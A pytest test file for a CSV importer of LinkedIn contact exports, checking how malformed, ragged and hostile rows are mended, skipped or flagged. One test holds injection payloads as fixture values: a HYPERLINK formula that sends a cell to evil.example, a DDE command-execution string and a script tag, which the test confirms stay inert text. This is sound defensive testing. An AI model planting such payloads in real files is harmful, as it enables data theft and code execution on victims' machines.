"""Rows that went wrong: what is mended, what is left out, and what is said about it."""

from datetime import date
from pathlib import Path

import pytest

from importers import Export, open_export
from tests.importers.examples import TODAY, opened, people, table, written

ROW = "{},Quill,https://www.linkedin.com/in/ada-quill,,Testwerk,Analyst,16 Dec 2024"


def read(folder: Path, *lines: str) -> Export:
    return open_export(written(folder, table(*lines)), today=TODAY)


def test_ragged_rows_are_read_where_they_can_be_and_named_where_not() -> None:
    export = opened("ragged.csv")
    assert [row.line for row in export.rows] == [5, 11, 13]
    assert (export.withheld, export.blank) == ([12], 5)
    assert [bad.line for bad in export.unreadable] == [6, 7, 14, 15, 16]


def test_a_row_that_ends_early_says_nothing_about_what_is_missing() -> None:
    tanvi = people("ragged.csv")[1]
    assert (tanvi.company, tanvi.title, tanvi.connected_on) == ("Maplewick", "", None)
    assert tanvi.silent == ("title", "connected_on")


@pytest.mark.parametrize(
    ("line", "words"),
    [
        (6, "only part of a name"),
        (7, "more cells than the header"),
        (14, "one is missing"),
        (15, "no name in this line"),
        (16, "only part of a name"),
    ],
)
def test_an_unreadable_row_says_what_to_do(line: int, words: str) -> None:
    bad = next(bad for bad in opened("ragged.csv").unreadable if bad.line == line)
    assert words in bad.reason
    assert bad.cells[0] in ("Ute", "Björn", "Ida", "")


def test_a_quotation_mark_that_never_closes_costs_no_row() -> None:
    export = opened("quotation-mark-never-closed.csv")
    assert [row.line for row in export.rows] == [5, 6, 7, 8, 9, 10, 11]
    _, otto, ida, una, *rest = export.people()
    assert (otto.given, otto.warnings) == ('Otto 5" Pipe', ())
    assert (ida.given, len(ida.warnings)) == ('Ida "Ivy" Quill', 1)
    assert (una.given, una.connected_on) == ("Una", date(2022, 9, 9))
    assert "never closes" in una.warnings[0]
    assert [person.warnings for person in rest] == [(), (), ()]


def test_an_unclosed_mark_with_a_comma_behind_it_is_unreadable_and_the_next_row_is_not(tmp_path: Path) -> None:
    export = read(tmp_path, ROW.format('"Ada, MBA'), ROW.format("Ida"))
    assert [bad.line for bad in export.unreadable] == [2]
    assert "never closes" in export.unreadable[0].reason
    assert [row.line for row in export.rows] == [3]


def test_a_cell_of_two_lines_is_one_cell_and_later_lines_keep_their_numbers(tmp_path: Path) -> None:
    export = read(tmp_path, ROW.format('"Ada\nMaria"'), ROW.format("Ida"))
    assert [(person.given, person.row) for person in export.people()] == [("Ada Maria", 2), ("Ida", 4)]


def test_formulas_and_markup_are_text() -> None:
    first, second, *_ = people("hostile-cells.csv")
    assert first.given == '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert (second.company, second.title) == ("@SUM(1+1)*cmd|' /C calc'!A0", "<script>alert(1)</script>")


def test_control_characters_are_left_out_and_odd_white_space_is_a_space() -> None:
    by_name = {person.family: person for person in people("hostile-cells.csv")}
    assert (by_name["Quill1"].given, by_name["Quill1"].company) == ("NULinside", "bellesc[31mred")
    assert by_name["Quill1"].warnings == ("Characters that cannot be shown were left out of this line.",)
    assert by_name["Quill2"].given == "vt ff fs nel ls"
    assert by_name["Quill3"].given == "carriage return"
    assert (by_name["Quill4"].given, by_name["Quill4"].company) == ("two lines", "two lines")
    assert by_name["Quill8"].given == "BOM"


def test_ten_thousand_characters_are_a_cell_and_one_more_is_not() -> None:
    export = opened("hostile-cells.csv")
    assert max(len(person.given) for person in export.people()) == 10_000
    assert [bad.line for bad in export.unreadable] == [14]
    assert "longer than 10,000 characters" in export.unreadable[0].reason


def test_a_bad_date_is_a_warning_and_the_person_stays() -> None:
    tags = [person for person in people("hostile-cells.csv") if person.family.startswith("Tag")]
    assert [person.connected_on for person in tags] == [None, None, None]
    assert all("is not a day Kith can read" in person.warnings[0] for person in tags)


def test_a_day_in_the_future_is_odd_and_not_the_day_of_the_export() -> None:
    export = opened("hostile-cells.csv")
    morgen = next(person for person in export.people() if person.family == "Morgen")
    assert (morgen.connected_on, len(morgen.warnings)) == (date(2922, 9, 9), 1)
    assert "in the future" in morgen.warnings[0]
    assert export.as_of == date(2022, 9, 9)


def test_what_is_not_one_email_address_is_left_out_with_a_warning() -> None:
    posts = [person for person in people("hostile-cells.csv") if person.family.startswith("Post")]
    assert [person.email for person in posts] == ["", "", ""]
    assert all("is not an email address" in person.warnings[0] for person in posts)


def test_what_is_not_a_profile_address_is_left_out_with_a_warning() -> None:
    nets = [person for person in people("hostile-cells.csv") if person.family.startswith("Netz")]
    assert [person.url for person in nets] == [""] * 10
    assert all("is not the address of a LinkedIn profile" in person.warnings[0] for person in nets)


def test_profile_addresses_are_kept_exactly_as_they_are_spelt() -> None:
    found = people("profile-addresses-in-every-spelling.csv")
    assert all(person.url and not person.warnings for person in found)
    assert found[5].url == "HTTPS://WWW.LinkedIn.com/in/ADA-QUILL"
    assert found[7].url == "https://m.linkedin.com/in/ada-quill/?originalSubdomain=de#about"


def test_an_invisible_name_is_no_name(tmp_path: Path) -> None:
    export = read(tmp_path, "\u200b,\u2060,https://www.linkedin.com/in/ida,,Testwerk,Analyst,09 Sep 2022")
    assert "no name in this line" in export.unreadable[0].reason


def test_a_web_address_where_the_name_should_be_means_that_a_cell_is_missing(tmp_path: Path) -> None:
    export = read(tmp_path, "Ida,https://www.linkedin.com/in/ida,,Testwerk,Analyst,09 Sep 2022,")
    assert "one is missing" in export.unreadable[0].reason
